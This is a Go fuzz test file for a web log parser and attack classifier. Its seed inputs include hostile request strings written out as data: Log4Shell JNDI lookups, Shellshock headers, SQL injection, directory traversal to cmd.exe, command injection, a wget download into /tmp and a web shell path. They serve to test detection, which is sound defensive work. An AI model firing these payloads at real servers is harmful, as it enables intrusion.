package weblog

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

var accessSeeds = []string{
	`192.0.2.7 - - [26/Nov/2026:13:04:05 +0100] "GET /index.html HTTP/1.1" 200 2326`,
	`203.0.113.9 - alice [26/Nov/2026:12:04:05 +0000] "POST /wp-login.php HTTP/1.1" 302 0 "https://example.org/" "Mozilla/5.0"`,
	`www.example.org:443 198.51.100.4 - - [26/Nov/2026:07:04:05 -0500] "GET /a%20b/c.php HTTP/2.0" 404 196 "-" "curl/8.5.0"`,
	`shop.example.net 2001:db8::17 - - [26/Nov/2026:12:04:05 +0000] "GET / HTTP/1.1" 200 612 "-" "Wget/1.21"`,
	`192.0.2.1 - - [26/Nov/2026:12:04:05 +0000] "GET /?q=\"><script> HTTP/1.1" 200 5 "-" "Mozilla \"quoted\" agent"`,
	`68.49.152.86 - - [22/Apr/2004:11:56:54 -0400] "GET" /cgi-bin/cart.pl?db=' HTTP/1.0" 404 287 "-" "Mozilla/4.75 (Nikto/1.32 )"`,
	`210.99.153.6 - - [05/Oct/2004:11:25:39 -0400] "GET /scripts/nsiislog.dll" 404 - "-" "-"`,
	`63.126.133.19 - - [01/Aug/2004:15:04:02 -0400] "-" 408 - "-" "-"`,
	`192.0.2.5 - - [26/Nov/2026:12:04:05 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" 400 0 "-" "-"`,
	`24.215.76.171 - - [03/Oct/2004:09:54:27 -0400] "GET /scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir HTTP/1.0" 400 293 "-" "-"`,
	`192.0.2.8 - - [2026-11-26T13:04:05+01:00] "GET http://www.yahoo.com/ HTTP/1.0" 200 1 "-" "${jndi:ldap://x/a}"`,
	`192.0.2.8 - - [26/Nov/2026:12:04:05 +0000] "GET /cgi-bin/a.cgi HTTP/1.1" 200 1 "() { :; }; /bin/id" "-"`,
}

func FuzzParseAccess(f *testing.F) {
	for _, s := range accessSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		r, ok := ParseAccess(line)
		if !ok {
			return
		}
		if r.Client == "" || r.Status < 0 || r.Status > 999 || r.Bytes < 0 {
			t.Fatalf("bad request %+v from %q", r, line)
		}
		if r.Time.Location() != time.UTC {
			t.Fatalf("time not UTC: %v", r.Time)
		}
		if r.Method != "" && !isToken(r.Method) {
			t.Fatalf("method %q", r.Method)
		}
		if r.Method == "" && (r.Path != "" || r.Query != "") {
			t.Fatalf("path without method: %+v", r)
		}
		if len(r.Target) > len(line) || len(r.UserAgent) > len(line) || len(r.Referer) > len(line) {
			t.Fatalf("field longer than the line: %+v", r)
		}
		// Classifying any parsed request is safe and gives well-formed hits.
		checkHits(t, r)
	})
}

func checkHits(t *testing.T, r Request) {
	t.Helper()
	ids := map[string]bool{}
	for _, ri := range Rules() {
		ids[ri.ID] = true
	}
	hits := Classify(r)
	seen := map[string]bool{}
	for i, h := range hits {
		if !ids[h.Rule] || seen[h.Rule] || SeverityRank(h.Severity) < 0 || h.Category == "" || len(h.Attack) == 0 {
			t.Fatalf("bad hit %+v", h)
		}
		seen[h.Rule] = true
		if i > 0 && SeverityRank(h.Severity) > SeverityRank(hits[i-1].Severity) {
			t.Fatalf("hits not ordered: %+v", hits)
		}
		if !utf8.ValidString(h.Evidence) || strings.ContainsAny(h.Evidence, "\x00\n\r") {
			t.Fatalf("evidence not printable: %q", h.Evidence)
		}
	}
}

func FuzzClassify(f *testing.F) {
	for _, s := range []string{
		"/item.php?id=1%20UNION%20ALL%20SELECT%201,2,3--", "/a.php?u=x'+or+1--+-", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
		"/$%7Bjndi:ldap://x/a%7D", "/index.php?page=php://filter/resource=x", "/shell?cd+/tmp;wget+http://x/y", "/cgi-bin/.%2e/.%2e/bin/sh",
		"/a?x=%60id%60", "/q?a=$(id)", "/%u002e%u002e%u2215boot.ini", "/x?a=${${lower:j}ndi:x}", "/uploads/c99.php?cmd=id",
	} {
		f.Add("GET", s, 200, "Mozilla/5.0", "-")
	}
	f.Add("", "\x05\x01\x00", 501, "", "")
	f.Add("SEARCH", "/"+strings.Repeat("\x90\x02\xb1", 400), 414, "", "")
	f.Add("GET", "/", 200, "() { :; }; echo", "${${::-j}${::-n}di:x}")
	f.Fuzz(func(t *testing.T, method, target string, status int, ua, ref string) {
		r := Request{Method: method, Target: target, Status: status, UserAgent: ua, Referer: ref}
		splitRequest(method+" "+target, &r)
		r.Status, r.UserAgent, r.Referer = status, ua, ref
		checkHits(t, r)
		// The same request again gives the same hits (no state leaks between calls).
		a, b := rulesOf(Classify(r)), rulesOf(Classify(r))
		if !slices.Equal(a, b) {
			t.Fatalf("%v then %v", a, b)
		}
		var tr Tracker
		tr.Add(r)
		tr.Add(r)
	})
}

func FuzzParseError(f *testing.F) {
	for _, s := range []string{
		`2026/11/26 13:04:05 [error] 1234#1234: *5 open() "/x" failed, client: 203.0.113.9, server: example.org, request: "GET /x.php HTTP/1.1", host: "example.org"`,
		`2026/11/26 13:04:05 [notice] 1#1: signal process started`,
		`[Wed Oct 11 14:32:52 2000] [error] [client 127.0.0.1] client denied by server configuration: /x`,
		`[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 35708:tid 4328636416] [client 192.0.2.4:5678] AH00037: Symbolic link`,
		`[26-Nov-2026 13:04:05] WARNING: [pool www] child 12 said into stderr: "x"`,
		`[26-Nov-2026 13:04:05 UTC] PHP Fatal error:  Uncaught Error in /var/www/b.php:2`,
		`[26-Nov-2026 13:04:05 Europe/Berlin] PHP   1. {main}() /var/www/b.php:0`,
	} {
		f.Add(s)
	}
	loc := time.FixedZone("X", -7*3600)
	f.Fuzz(func(t *testing.T, line string) {
		e, ok := ParseError(line, loc)
		if !ok {
			return
		}
		if e.Time.Location() != time.UTC || e.Server == "" {
			t.Fatalf("bad event %+v", e)
		}
		if len(e.Message) > len(line) || len(e.Client) > len(line) || len(e.Request) > len(line) {
			t.Fatalf("field longer than the line: %+v", e)
		}
	})
}

// FuzzStream feeds arbitrary bytes through the reader: no panic, counts add up.
func FuzzStream(f *testing.F) {
	f.Add([]byte(strings.Join(accessSeeds, "\n")))
	f.Add([]byte("\n\n\r\n" + accessSeeds[0] + "\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rd := &Reader{}
		n := 0
		err := rd.StreamAccess(context.Background(), strings.NewReader(string(data)), "/x", func(Request) bool {
			n++
			return true
		})
		if err != nil {
			t.Fatal(err)
		}
		st := rd.Stats()
		if int64(n) != st.Parsed || st.Parsed+st.Unparsed > st.Lines {
			t.Fatalf("n %d stats %+v", n, st)
		}
	})
}
